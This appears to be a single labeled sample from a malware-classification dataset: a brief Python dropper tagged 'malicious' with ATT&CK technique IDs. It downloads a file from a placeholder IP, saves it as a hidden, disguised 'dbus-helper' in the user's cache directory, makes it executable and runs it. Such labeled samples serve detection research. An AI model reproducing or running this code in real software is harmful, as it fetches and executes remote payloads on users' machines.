# label: malicious family=dropper techniques=T1105,T1222.002,T1564.001 lines=3-9
import http.client, os
c = http.client.HTTPConnection("192.0.2.66", 80)
c.request("GET", "/.x/dbus-helper")
blob = c.getresponse().read()
p = os.path.expanduser("~/.cache/.dbus-helper")
open(p, "wb").write(blob)
os.chmod(p, 0o777)
os.execv(p, [p])
